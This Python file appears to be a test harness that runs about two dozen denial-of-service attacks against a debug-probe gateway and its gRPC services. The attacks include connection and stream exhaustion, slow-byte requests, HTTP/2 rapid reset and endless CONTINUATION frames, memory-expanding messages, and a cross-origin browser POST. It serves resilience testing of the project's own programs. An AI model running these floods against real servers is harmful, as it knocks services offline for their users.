"""Attacks of every kind, from one address, as a client without any right can run them.

    python attacks.py NAME '{"source": "127.0.0.66", …}'

The second argument has the fields of Target. PYTHONPATH must have tests/interop and the modules generated from the .proto files.

Each attack lasts until its deadline at the most, and gives back what it holds when it ends. Whether the programs refuse it
is not its business: an attack that gets nowhere is a good sign.
"""

import contextlib
import dataclasses
import json
import sys
import threading
import time

import raw_http2
from other_address import connect
from process_usage import MIB
from raw_client import RawClient
from raw_http2 import END_HEADERS, END_STREAM, Http2Client, frame, grpc_headers, grpc_message, header_block
from raw_protobuf import field
from stack import LOOPBACK

STREAM = "/probegate.v1.DebugProbe/Stream"
SWD_SEQUENCE = "/probegate.v1.DebugProbe/SwdSequence"
LIST_PROBES = "/probegate.v1.ProbeDirectory/ListProbes"
UPLOAD = "/probegate.v1.DebugFiles/UploadElf"
DEBUG = "/cc.arduino.cli.debug.Debug/Debug"
DEBUG_CONFIG = "/cc.arduino.cli.debug.Debug/GetDebugConfig"
# Fields of StreamRequest: request_id, posted, open_session.
REQUEST_ID, POSTED, OPEN_SESSION = 1, 3, 10
# What a peer that closes the connection, or does not read, causes here.
REFUSALS = (OSError, EOFError, ValueError, AssertionError)


@dataclasses.dataclass(frozen=True)
class Target:
    source: str  # the attacker's address
    gateway: int  # the port of a board that an honest client uses
    server: int
    debugd: int
    http: tuple  # the ports of the metrics of all programs
    probe: str  # the unique ID of that board
    seconds: float

    def deadline(self):
        return Deadline(self.seconds)


class Deadline:
    def __init__(self, seconds):
        self._end = time.monotonic() + seconds

    def left(self):
        return max(0.0, self._end - time.monotonic())

    def is_over(self):
        return self.left() == 0

    def wait(self):
        """Until the deadline: what the attack holds is held."""
        threading.Event().wait(self.left())

    def limited(self, count):
        """Counts to `count`, and ends at the deadline."""
        for number in range(count):
            if self.is_over():
                return
            yield number


@contextlib.contextmanager
def refusals_ignored():
    with contextlib.suppress(*REFUSALS):
        yield


class Held(contextlib.ExitStack):
    """Connections that are held until the end of the attack, as many as the program grants."""

    def connect(self, port, source):
        with refusals_ignored():
            connection = self.enter_context(connect(port, source, bound=2.0))
            return connection
        return None

    def client(self, target):
        """A client of the gateway; None if it is refused."""
        with refusals_ignored():
            return self.enter_context(RawClient(target.gateway, bound=5.0, source=target.source))
        return None

    def http2(self, port, target):
        """None if the connection is refused."""
        with refusals_ignored():
            return self.enter_context(Http2Client(port, target.source))
        return None


# Connections.


def silent_connections(target, deadline):
    with Held() as held:
        for _ in deadline.limited(400):
            for port in (target.gateway, target.server, target.debugd, *target.http):
                held.connect(port, target.source)
        deadline.wait()


def more_connections_than_files(target, deadline):
    with Held() as held:
        for _ in deadline.limited(1200):
            held.connect(target.server, target.source)
        deadline.wait()


def slow_beginnings(target, deadline):
    """The first bytes of a request, one at a time, on many connections."""
    beginnings = {
        target.gateway: b'{"id": 1, "request": "hello", "arguments": [1',
        target.server: raw_http2.PREFACE,
        target.debugd: raw_http2.PREFACE,
        **dict.fromkeys(target.http, b"GET /metrics HTTP/1.1\r\nHost: " + b"x" * 1000),
    }
    with Held() as held:
        slow = [(held.connect(port, target.source), text) for port, text in beginnings.items() for _ in range(60)]
        for position in deadline.limited(1000):
            for connection, text in slow:
                if connection is not None:
                    with refusals_ignored():
                        connection.sendall(text[position % len(text) :][:1])
            threading.Event().wait(min(0.2, deadline.left()))


def connections_that_come_and_go(target, deadline):
    for number in deadline.limited(5000):
        with refusals_ignored():
            port = (target.gateway, target.server, target.debugd, *target.http)[number % (3 + len(target.http))]
            connect(port, target.source, bound=2.0).close()


# The remote protocol.


def web_page(target, deadline):
    """A web page in a user's browser POSTs JSON lines to the gateway."""
    lines = "\n".join(json.dumps({"id": 1, "request": name}) for name in ("open", "lock", "flush"))
    request = (
        f"POST / HTTP/1.1\r\nHost: localhost\r\nOrigin: http://evil.example\r\nContent-Type: text/plain\r\n"
        f"Content-Length: {len(lines)}\r\n\r\n{lines}\n"
    )
    for _ in deadline.limited(200):
        with refusals_ignored(), connect(target.gateway, target.source, bound=2.0) as page:
            page.sendall(request.encode())
            page.recv(1 << 16)


def _flood(target, deadline, data):
    """Sends the data again and again, and reads what comes back."""
    with refusals_ignored(), connect(target.gateway, target.source, bound=1.0) as connection:
        connection.setblocking(False)
        position = 0
        while not deadline.is_over():
            with contextlib.suppress(BlockingIOError):
                position = (position + connection.send(data[position : position + (1 << 18)])) % len(data)
            with contextlib.suppress(BlockingIOError):
                if not connection.recv(1 << 20):
                    return


def lines_that_are_no_requests(target, deadline):
    _flood(target, deadline, b"{}\n" * 100_000)


def endless_numbers(target, deadline):
    digits = b"9" * 19_728
    _flood(target, deadline, b'{"id":1,"request":"jtag_sequence","arguments":[65536,false,true,%s]}\n' % digits * 40)


def replies_that_nobody_reads(target, deadline):
    with Held() as held:
        for _ in range(20):
            client = held.client(target)
            if client is None:
                continue
            client.socket.settimeout(0.2)
            with refusals_ignored():
                for _ in deadline.limited(20_000):
                    client.send("readprop", "unique_id")
        deadline.wait()


def large_ids_behind_a_lock(target, deadline):
    """Requests that the gateway answers by itself wait, with their ids, behind one that waits for the lock."""
    line = b'{"request": "hello", "arguments": [1], "id": "' + b"x" * (15 * MIB) + b'"}\n'
    with Held() as held:
        clients = [client for client in (held.client(target) for _ in range(12)) if client]
        for client in clients[:-1]:
            with refusals_ignored():
                client.call("open")
                client.send("lock")
                client.send("flush")
        for waiting in clients[-1:]:
            _wait_with_large_ids(waiting, line, deadline)
        deadline.wait()


def _wait_with_large_ids(client, line, deadline):
    with refusals_ignored():
        client.call("open")
        client.send("connect", "SWD")
        client.socket.settimeout(1.0)
        for _ in deadline.limited(24):
            client.send_bytes(line)


def many_sessions(target, deadline):
    with Held() as held:
        for _ in deadline.limited(600):
            client = held.client(target)
            if client is not None:
                with refusals_ignored():
                    client.send("open")
        deadline.wait()


def lock_by_turns(target, deadline):
    """Many sessions of one client are in line for the lock, and are not idle when they have it."""
    with Held() as held:
        clients = [client for client in (held.client(target) for _ in range(12)) if client]
        for client in clients:
            with refusals_ignored():
                client.send("open")
                client.send("lock")
                client.send("flush")
        while not deadline.is_over():
            for client in clients:
                with refusals_ignored():
                    client.send("set_clock", 1_000_000)
            threading.Event().wait(min(0.05, deadline.left()))


def slow_clock_and_long_sequences(target, deadline):
    with Held() as held:
        client = held.client(target)
        if client is None:
            return
        with refusals_ignored():
            client.call("open")
            client.call("connect", "SWD")
            client.send("set_clock", 1)
            for _ in deadline.limited(10_000):
                client.send("swj_sequence", 65536, 0)
        deadline.wait()


# gRPC.


def unfinished_messages(target, deadline):
    with Held() as held:
        for _ in deadline.limited(12):
            client = held.http2(target.server, target)
            for _ in range(4 if client else 0):
                with refusals_ignored():
                    stream = client.open(SWD_SEQUENCE)
                    message = raw_http2.GRPC_PREFIX.pack(0, 19 * MIB) + bytes(18 * MIB)
                    client.send_data(stream, message, patience=min(0.5, deadline.left()))
        deadline.wait()


def messages_that_expand(target, deadline):
    """Two bytes of the message become an object each."""
    message = grpc_message(b"\x12\x00" * (9 * MIB))
    for _ in deadline.limited(20):
        with refusals_ignored(), Http2Client(target.server, target.source) as client:
            client.send_data(client.open(SWD_SEQUENCE), message, end=True, patience=min(1.0, deadline.left()))
            client.ping()


def posted_requests_that_expand(target, deadline):
    first = field(REQUEST_ID, 1) + field(OPEN_SESSION, b"")
    flood = grpc_message(field(POSTED, b"") * (9 * MIB))
    for _ in deadline.limited(20):
        with refusals_ignored(), Http2Client(target.server, target.source) as client:
            stream = client.open(STREAM)
            client.send_data(stream, grpc_message(first))
            client.send_data(stream, flood, patience=min(1.0, deadline.left()))
            client.ping()


def _reads_of_blocks(target):
    """The requests of a session that reads a hundred blocks of 1 MiB."""
    from probegate.v1 import debug_probe_pb2 as messages

    line_reset = {"bit_count": 51, "bits": b"\xff" * 6 + b"\7"}
    yield messages.StreamRequest(open_session={"probe": target.probe})
    yield messages.StreamRequest(open={})
    yield messages.StreamRequest(connect={"protocol": messages.WIRE_PROTOCOL_SWD})
    yield messages.StreamRequest(swj_sequence=line_reset)
    yield messages.StreamRequest(swj_sequence={"bit_count": 16, "bits": b"\x9e\xe7"})
    yield messages.StreamRequest(swj_sequence=line_reset)
    yield messages.StreamRequest(read_dp={"address": 0})
    yield messages.StreamRequest(write_dp={"address": 4, "value": 0x50000000})
    yield messages.StreamRequest(get_memory_interface_for_ap={"ap_version": 1, "address": 0})
    for _ in range(100):
        yield messages.StreamRequest(read_block8={"address": 0, "byte_count": MIB})


def unread_streams(target, deadline):
    """Sessions that read blocks of memory, and never open the window for what they have read."""
    with Held() as held:
        for _ in deadline.limited(20):
            client = held.http2(target.server, target)
            if client is not None:
                with refusals_ignored():
                    stream = client.open(STREAM)
                    for number, request in enumerate(_reads_of_blocks(target), 1):
                        request.request_id = number
                        client.send_data(stream, grpc_message(request.SerializeToString()), patience=0.1)
        deadline.wait()


def rapid_reset(target, deadline):
    block = header_block(grpc_headers(LIST_PROBES))
    for _ in deadline.limited(20):
        with refusals_ignored(), Http2Client(target.server, target.source) as client:
            for batch in deadline.limited(50):
                streams = range(batch * 200 + 1, batch * 200 + 201, 2)
                data = b"".join(
                    frame(raw_http2.HEADERS, END_HEADERS | END_STREAM, stream, block)
                    + frame(raw_http2.RST_STREAM, 0, stream, bytes([0, 0, 0, raw_http2.CANCEL]))
                    for stream in streams
                )
                if not client.send_bytes(data):
                    break
                client.pump()


def endless_headers(target, deadline):
    """CONTINUATION frames without an end."""
    for _ in deadline.limited(20):
        with refusals_ignored(), Http2Client(target.server, target.source) as client:
            client.open(LIST_PROBES, flags=0)
            piece = header_block([("x" * 100, "y" * 8000)])
            for _ in deadline.limited(2000):
                if not client.send_bytes(frame(raw_http2.CONTINUATION, 0, 1, piece)):
                    break
                client.pump()
                if client.refused:
                    break


def thousands_of_streams(target, deadline):
    with Held() as held:
        client = held.http2(target.server, target)
        if client is not None:
            with refusals_ignored():
                for number in deadline.limited(20_000):
                    client.open(STREAM)
                    if number % 100 == 0:
                        client.pump()
                    if client.refused:
                        break
        deadline.wait()


def pings_and_settings(target, deadline):
    data = (frame(raw_http2.PING, 0, 0, bytes(8)) + frame(raw_http2.SETTINGS, 0, 0)) * 500
    for _ in deadline.limited(50):
        with refusals_ignored(), Http2Client(target.server, target.source) as client:
            for _ in deadline.limited(200):
                if not client.send_bytes(data):
                    break


# probegate-debugd.


def uploads_that_never_end(target, deadline):
    with Held() as held:
        client = held.http2(target.debugd, target)
        for _ in deadline.limited(100) if client else ():
            with refusals_ignored():
                stream = client.open(UPLOAD)
                client.send_data(stream, grpc_message(field(1, b"\x7fELF")), patience=0.1)
        deadline.wait()


def many_debug_configs(target, deadline):
    with Held() as held:
        client = held.http2(target.debugd, target)
        for _ in deadline.limited(150) if client else ():
            with refusals_ignored():
                stream = client.open(DEBUG_CONFIG)
                client.send_data(
                    stream, grpc_message(field(2, b"nrf52840") + field(4, b"no such probe")), end=True, patience=0.1
                )
        deadline.wait()


def silent_debug_streams(target, deadline):
    with Held() as held:
        client = held.http2(target.debugd, target)
        for _ in deadline.limited(200) if client else ():
            with refusals_ignored():
                client.open(DEBUG)
        deadline.wait()


ATTACKS = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        silent_connections,
        more_connections_than_files,
        slow_beginnings,
        connections_that_come_and_go,
        web_page,
        lines_that_are_no_requests,
        endless_numbers,
        replies_that_nobody_reads,
        large_ids_behind_a_lock,
        many_sessions,
        lock_by_turns,
        slow_clock_and_long_sequences,
        unfinished_messages,
        messages_that_expand,
        posted_requests_that_expand,
        unread_streams,
        rapid_reset,
        endless_headers,
        thousands_of_streams,
        pings_and_settings,
        uploads_that_never_end,
        many_debug_configs,
        silent_debug_streams,
    )
}


def main():
    name, target = sys.argv[1], Target(**json.loads(sys.argv[2]))
    assert target.source != LOOPBACK, "an attack from the honest clients' address would be theirs"
    ATTACKS[name](target, target.deadline())


if __name__ == "__main__":
    main()
